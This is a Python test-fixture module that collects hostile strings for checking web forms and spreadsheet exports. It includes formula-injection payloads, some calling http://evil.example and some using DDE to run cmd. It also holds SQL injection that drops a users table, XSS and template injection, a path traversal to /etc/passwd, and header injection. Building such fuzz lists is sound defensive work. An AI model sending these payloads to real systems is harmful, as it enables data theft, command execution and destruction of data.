"""What hostile visitors write into fields. Each list is used by more than one test."""

from __future__ import annotations

from itertools import product

_OPERATORS = "=+-@"
_WIDE = "＝＋－＠﹦﹢﹣﹫"
_BEFORE = ("\t", "\r", "\n", "\r\n", " ", "  ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2028")
_CALLS = (
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
    "=1+1\",=2+2", "=1+1\n=2+2", "'=1+1", "''=1+1", "−1+1", "=", "-",
)  # fmt: skip

# Text a spreadsheet would run, or that could be mistaken for our own mark.
FORMULAS = (
    *(f"{sign}1+1" for sign in _OPERATORS + _WIDE),
    *(f"{before}{sign}1+1" for before, sign in product(_BEFORE, "=＝+")),
    *("\t1", "\r1", "\n1", "\x01=1", "\u200e=1", "\u202e=1", "\u2060=1"),
    *_CALLS,
)
# Text that must come out as it is.
HARMLESS = ("测试有限公司", "VC-2025-000001-K", "1=1", "a@b.example", "（甲）-乙", "", "中文 =1")

# Strings for every field of every form and call.
TEXTS = (
    "<script>alert(1)</script>", "\"><svg onload=alert(1)>", "javascript:alert(1)",
    "{{7*7}}{% debug %}", "{x.__class__.__init__.__globals__}", "%(secret)s %s %n", "${7*7}",
    "' OR '1'='1", "'; DROP TABLE users_user; --", "\\'; SELECT pg_sleep(9); --",
    "../../etc/passwd",
    "..\\..\\win.ini", "\u202efdp.exe", "\u0000", "a\u0000b", "\ud800", "\x1b[31mred\x1b[0m",
    "line\r\nSet-Cookie: a=b", "\r\n{\"level\": \"INFO\"}", "Ａ" * 50, "x" * 5000, "𠮷" * 300,
    "a\u0300" * 200, "null", "None", "NaN", "Infinity", "-0", "1e309", "0x1F", "1_000", "１２３",
    "9" * 40, "-9223372036854775809", "9223372036854775808", "true", "[]", "{}", "0", "-1", " ", "",
    "2025-02-30", "0000-00-00", "9999-12-31T23:59:60Z", "10000-01-01", "user:1", "AP-2025-000001",
    "=1+1", "\ufeff", "\u2028", "☃", "ß", "İ", "ﷺ" * 20,
)  # fmt: skip
